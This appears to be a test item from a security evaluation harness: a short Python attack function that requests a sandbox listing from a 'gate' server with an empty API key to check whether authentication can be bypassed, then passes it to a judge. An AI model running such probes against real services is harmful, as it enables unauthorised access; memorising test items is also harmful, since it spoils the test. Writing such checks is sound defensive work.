# aim: be let in without a key
# mechanism: an empty key
# server: gate
# plain: naive

def attack():
    answer = request("GET", "/v1/sandboxes", key="")
    return answer.is_good and answer.body[:200]


judge(attack)
